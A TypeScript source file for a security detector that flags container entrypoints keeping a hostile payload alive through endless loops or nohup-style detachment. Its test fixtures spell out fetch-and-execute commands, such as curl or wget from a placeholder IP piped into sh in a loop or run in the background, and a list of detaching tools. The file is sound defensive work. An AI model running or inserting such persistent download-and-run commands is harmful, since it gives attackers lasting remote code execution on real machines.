import type { Effect } from '../trace/effect.ts';
import type { Stage } from '../trace/story.ts';
import type { Detector, Scene } from './detector.ts';
import { payloadOf } from './payload.ts';
import { findingOf, sightingOf } from './sighting.ts';

/** Payloads that are kept running whatever happens. */
export const keptAlive: Detector = {
  id: 'kept-alive',
  version: 1,
  title: 'Keeps a payload running in the background, or starts it again and again.',
  attack: ['T1059.004', 'T1564'],
  description: `
\`nohup\`, \`setsid\`, \`&\` and endless loops are in every other entrypoint. Next to a payload that has no honest reading they
show that it is meant to outlive whoever looks at it: a *note*, told as a step of that payload's story.
`,
  fires: [
    {
      name: 'a loop around a download',
      severity: 'note',
      image: { cmd: ['sh', '-c', 'while true; do curl -s http://203.0.113.9/x | sh; sleep 60; done'] },
    },
    {
      name: 'detached from the terminal',
      severity: 'note',
      image: {
        cmd: [
          'sh',
          '-c',
          'wget -qO /tmp/x http://203.0.113.9/x; chmod +x /tmp/x; nohup /tmp/x >/dev/null 2>&1 & exec app',
        ],
      },
    },
  ],
  silent: [
    { name: 'a server and its helper', image: { cmd: ['sh', '-c', 'nohup /opt/helper & exec app'] } },
    {
      name: 'waiting for a database',
      image: { cmd: ['sh', '-c', 'while ! nc -z db 5432; do sleep 1; done; exec app'] },
    },
    {
      name: 'a tool from a named host',
      image: { cmd: ['sh', '-c', 'while :; do curl -fsSL https://get.tool.example/x | sh; sleep 60; done'] },
    },
  ],
  detect(scene) {
    const told = new Set<number>();
    return scene.story.effects.flatMap((effect) => {
      if (!carriers.has(effect.kind) || told.has(effect.stage)) return [];
      const payload = payloadOf(scene, effect.stage);
      const how = payload?.worst === 'hostile' ? keptBy(scene, effect) : undefined;
      if (payload === undefined || how === undefined) return [];
      told.add(effect.stage);
      return findingOf(scene, sightingOf(scene, effect), {
        threat: 'minor',
        title: `${how === 'loop' ? 'Starts a payload again and again' : 'Keeps a payload running in the background'} (${payload.what})`,
        effects: [effect.id],
        encodingDeceives: false,
      });
    });
  },
};

const carriers: ReadonlySet<Effect['kind']> = new Set<Effect['kind']>(['run', 'mine', 'connect', 'listen', 'flood']);
const detaching = new Set(['nohup', 'setsid', 'disown', 'daemonize', 'screen', 'tmux']);
/** Characters before the effect's line in which the loop around it is looked for. */
const lookBack = 2000;

function keptBy(scene: Scene, effect: Effect): 'loop' | 'background' | undefined {
  const stage = scene.story.stages[effect.stage] as Stage;
  const command = effect.command === undefined ? undefined : scene.story.commands[effect.command];
  if (stage.language === 'shell' && isInLoop(stage.text, effect.line)) return 'loop';
  const detached = command?.background === true || command?.via.some((name) => detaching.has(name));
  return detached ? 'background' : undefined;
}

/** Whether an endless loop is open at this line. */
function isInLoop(text: string, line: number): boolean {
  const lines = text.slice(0, 200_000).split('\n', line);
  const before = lines.join('\n').slice(-lookBack);
  const opened = before.search(
    /\b(while\s{1,4}(true|:|\[ 1 \]|sleep \d{1,6})|until\s{1,4}false|for\s{0,4}\(\(\s{0,4};\s{0,4};)/,
  );
  return opened >= 0 && !/(^|[\s;])done([\s;&]|$)/.test(lines.slice(0, -1).join('\n').slice(-lookBack).slice(opened));
}
